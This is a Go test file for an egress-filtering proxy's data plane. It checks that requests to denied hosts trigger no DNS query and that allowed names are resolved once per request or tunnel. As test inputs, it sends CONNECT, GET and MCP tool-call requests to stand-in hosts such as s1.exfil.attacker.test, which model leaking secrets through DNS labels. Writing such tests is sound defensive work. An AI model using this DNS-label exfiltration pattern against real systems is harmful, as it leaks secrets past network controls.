package dataplane_test

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/portcullis-dev/portcullis/dataplane"
)

// dnsServer is a real DNS server on 127.0.0.1 (UDP) that answers A queries
// for the names it knows, AAAA with no answer, the rest with NXDOMAIN, and
// records every question it is asked.
type dnsServer struct {
	addr  string
	hosts map[string]netip.Addr

	mu      sync.Mutex
	queries []string // "name TYPE", name folded, without the trailing dot
}

func startDNS(t *testing.T, hosts map[string]netip.Addr) *dnsServer {
	t.Helper()
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	s := &dnsServer{addr: pc.LocalAddr().String(), hosts: hosts}
	done := make(chan struct{})
	go func() {
		defer close(done)
		buf := make([]byte, 1500)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			if out, ok := s.answer(buf[:n]); ok {
				pc.WriteTo(out, from)
			}
		}
	}()
	t.Cleanup(func() { pc.Close(); <-done })
	return s
}

func (s *dnsServer) answer(query []byte) ([]byte, bool) {
	var p dnsmessage.Parser
	h, err := p.Start(query)
	if err != nil {
		return nil, false
	}
	q, err := p.Question()
	if err != nil {
		return nil, false
	}
	name := strings.TrimSuffix(strings.ToLower(q.Name.String()), ".")
	s.mu.Lock()
	s.queries = append(s.queries, name+" "+strings.TrimPrefix(q.Type.String(), "Type"))
	s.mu.Unlock()
	addr, known := s.hosts[name]
	rh := dnsmessage.Header{ID: h.ID, Response: true, Authoritative: true, RecursionDesired: h.RecursionDesired, RecursionAvailable: true}
	if !known {
		rh.RCode = dnsmessage.RCodeNameError
	}
	b := dnsmessage.NewBuilder(nil, rh)
	b.EnableCompression()
	b.StartQuestions()
	b.Question(q)
	b.StartAnswers()
	if known && q.Type == dnsmessage.TypeA && addr.Is4() {
		b.AResource(dnsmessage.ResourceHeader{Name: q.Name, Class: dnsmessage.ClassINET, TTL: 60}, dnsmessage.AResource{A: addr.As4()})
	}
	out, err := b.Finish()
	return out, err == nil
}

// asked returns the questions whose name contains substr.
func (s *dnsServer) asked(substr string) []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var out []string
	for _, q := range s.queries {
		if name, _, _ := strings.Cut(q, " "); strings.Contains(name, substr) {
			out = append(out, q)
		}
	}
	return out
}

// lookups counts the A questions for exactly name: one per resolution.
func (s *dnsServer) lookups(name string) int {
	n := 0
	for _, q := range s.asked(name) {
		if q == name+" A" {
			n++
		}
	}
	return n
}

// resolve goes through the Go resolver to this server only.
func (s *dnsServer) resolve(ctx context.Context, host string) ([]netip.Addr, error) {
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		var d net.Dialer
		return d.DialContext(ctx, "udp", s.addr)
	}}
	return r.LookupNetIP(ctx, "ip", host)
}

// dnsPolicy has an endpoint of every kind on the upstream's port: L4, REST,
// MCP, a wildcard host, and an L4 endpoint for git only.
const dnsPolicy = `
version: 1
network_policies:
  raw:
    endpoints:
      - { host: raw.good.test, port: PORT }
  api:
    endpoints:
      - { host: api.good.test, port: PORT, protocol: rest, enforcement: enforce, access: read-only }
  tools:
    endpoints:
      - host: mcp.good.test
        port: PORT
        path: /mcp
        protocol: mcp
        enforcement: enforce
        rules:
          - allow: { method: ping }
  wild:
    endpoints:
      - { host: "*.wild.test", port: PORT, protocol: rest, enforcement: enforce, access: read-only }
  gitonly:
    endpoints:
      - { host: git.good.test, port: PORT }
    binaries: [{ path: /usr/bin/git }]
`

// A denied destination triggers no DNS query (issue 11, finding 2): the
// name is decided first, and resolved only when some endpoint could match
// it. Allowed names are resolved once per request (once per tunnel). Run
// with a resolver function the test controls, and end to end with a real
// DNS server behind Go's resolver.
func TestDeniedNamesAreNeverResolved(t *testing.T) {
	up := startPlainUpstream(t)
	hosts := map[string]netip.Addr{
		"raw.good.test": netip.MustParseAddr(rawAddr),
		"api.good.test": netip.MustParseAddr("127.0.0.1"),
		"mcp.good.test": netip.MustParseAddr("127.0.0.1"),
		"x.wild.test":   netip.MustParseAddr("127.0.0.1"),
		"git.good.test": netip.MustParseAddr(rawAddr),
	}
	// Every attacker name resolves, so nothing is denied for want of an
	// answer: only the absence of a query proves the fix.
	for _, secret := range []string{"s1", "s2", "s3", "s4", "s5", "s6", "s7", "s8"} {
		hosts[secret+".exfil.attacker.test"] = netip.MustParseAddr("127.0.0.1")
	}
	hosts["s9.wild.test.exfil.attacker.test"] = netip.MustParseAddr("127.0.0.1")

	for _, kind := range []string{"func", "dns"} {
		t.Run(kind, func(t *testing.T) {
			dns := startDNS(t, hosts)
			resolve := dns.resolve
			if kind == "func" {
				// The same server's record, but answered without DNS.
				resolve = func(_ context.Context, host string) ([]netip.Addr, error) {
					dns.mu.Lock()
					dns.queries = append(dns.queries, host+" A")
					dns.mu.Unlock()
					if a, ok := hosts[host]; ok {
						return []netip.Addr{a}, nil
					}
					return nil, fmt.Errorf("no such host %s", host)
				}
			}
			pu := dnsProxy(t, resolve, up.port)
			port := strconv.Itoa(up.port)
			seen := len(up.seen())

			// Denied: CONNECT (another port, the policy's port),
			// absolute-form GET and MCP POST, a near miss of the
			// wildcard, a name whose only endpoint is for another
			// binary.
			for _, authority := range []string{"s1.exfil.attacker.test:443", "s2.exfil.attacker.test:" + port, "git.good.test:" + port} {
				if code := connectStatus(t, pu, authority); code != http.StatusForbidden {
					t.Errorf("CONNECT %s = %d, want 403", authority, code)
				}
			}
			for _, u := range []string{
				"http://s3.exfil.attacker.test:" + port + "/",
				"http://s4.exfil.attacker.test/",
				"http://s9.wild.test.exfil.attacker.test:" + port + "/",
				"http://git.good.test:" + port + "/",
			} {
				if code, body := proxyGet(t, pu, u); code != http.StatusForbidden {
					t.Errorf("GET %s = %d %s, want 403", u, code, body)
				}
			}
			res, err := proxied(pu).Post("http://s5.exfil.attacker.test:"+port+"/mcp", "application/json",
				strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"x"}}`))
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			if res.StatusCode != http.StatusForbidden {
				t.Errorf("MCP POST to an attacker name = %d, want 403", res.StatusCode)
			}
			// policy.local is the proxy's own; never looked up.
			if code, _ := proxyGet(t, pu, "http://policy.local/v1/policy"); code != http.StatusOK {
				t.Errorf("GET http://policy.local/v1/policy = %d", code)
			}
			for _, name := range []string{"exfil", "git.good.test", "policy.local"} {
				if q := dns.asked(name); len(q) != 0 {
					t.Errorf("denied requests sent DNS queries: %q", q)
				}
			}
			if got := up.seen()[seen:]; len(got) != 0 {
				t.Errorf("the upstream saw denied requests: %q", got)
			}

			// Allowed names are resolved, once per request.
			for _, u := range []string{"http://api.good.test:" + port + "/a", "http://x.wild.test:" + port + "/b"} {
				if code, body := proxyGet(t, pu, u); code != http.StatusOK {
					t.Errorf("GET %s = %d %s", u, code, body)
				}
			}
			res, err = proxied(pu).Post("http://mcp.good.test:"+port+"/mcp", "application/json",
				strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"ping"}`))
			if err != nil {
				t.Fatal(err)
			}
			res.Body.Close()
			if res.StatusCode != http.StatusOK {
				t.Errorf("allowed MCP POST = %d", res.StatusCode)
			}
			for _, name := range []string{"api.good.test", "x.wild.test", "mcp.good.test"} {
				if n := dns.lookups(name); n != 1 {
					t.Errorf("%s resolved %d times, want 1: %q", name, n, dns.asked(name))
				}
			}
			// An L4 tunnel: resolved once.
			conn := connectOK(t, pu, "raw.good.test:"+port)
			fmt.Fprintf(conn, "GET /l4 HTTP/1.1\r\nHost: raw.good.test:%s\r\n\r\n", port)
			if body := readBody(t, bufio.NewReader(conn)); body != "ok /l4" {
				t.Errorf("L4 tunnel answered %q", body)
			}
			if n := dns.lookups("raw.good.test"); n != 1 {
				t.Errorf("raw.good.test resolved %d times, want 1", n)
			}
			// An intercepted tunnel: resolved once, at CONNECT, for all
			// its requests.
			before := dns.lookups("api.good.test")
			conn = connectOK(t, pu, "api.good.test:"+port)
			br := bufio.NewReader(conn)
			for _, path := range []string{"/one", "/two"} {
				fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: api.good.test:%s\r\n\r\n", path, port)
				res, err := http.ReadResponse(br, nil)
				if err != nil {
					t.Fatal(err)
				}
				io.Copy(io.Discard, res.Body)
				res.Body.Close()
				if res.StatusCode != http.StatusOK {
					t.Errorf("GET %s in an intercepted tunnel = %d", path, res.StatusCode)
				}
			}
			if n := dns.lookups("api.good.test") - before; n != 1 {
				t.Errorf("an intercepted tunnel resolved its name %d times, want 1", n)
			}
		})
	}
}

func dnsProxy(t *testing.T, resolve func(context.Context, string) ([]netip.Addr, error), port int) *url.URL {
	t.Helper()
	_, u := startAgent(t, dataplane.Config{
		DevAllowLoopback: true,
		Resolve:          resolve,
		CallerBinary:     func(net.Conn) (string, error) { return "/usr/bin/curl", nil },
	}, strings.ReplaceAll(dnsPolicy, "PORT", strconv.Itoa(port)), "v1")
	return u
}

func proxyGet(t *testing.T, pu *url.URL, u string) (int, string) {
	t.Helper()
	res, err := proxied(pu).Get(u)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res.StatusCode, string(b)
}

// dialConnect sends CONNECT authority and returns the answer and the
// connection (closed when the test ends).
func dialConnect(t *testing.T, pu *url.URL, authority string) (*http.Response, net.Conn) {
	t.Helper()
	conn, err := net.Dial("tcp", pu.Host)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	fmt.Fprintf(conn, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", authority, authority)
	// The answer to a CONNECT has no body: one byte at a time, so nothing
	// of the tunnel is read past it.
	res, err := http.ReadResponse(bufio.NewReaderSize(oneByteReader{conn}, 16), &http.Request{Method: http.MethodConnect})
	if err != nil {
		t.Fatal(err)
	}
	return res, conn
}

type oneByteReader struct{ r io.Reader }

func (o oneByteReader) Read(b []byte) (int, error) { return o.r.Read(b[:min(len(b), 1)]) }

func connectStatus(t *testing.T, pu *url.URL, authority string) int {
	t.Helper()
	res, _ := dialConnect(t, pu, authority)
	return res.StatusCode
}

func connectOK(t *testing.T, pu *url.URL, authority string) net.Conn {
	t.Helper()
	res, conn := dialConnect(t, pu, authority)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("CONNECT %s = %d", authority, res.StatusCode)
	}
	return conn
}

func readBody(t *testing.T, br *bufio.Reader) string {
	t.Helper()
	res, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return string(b)
}
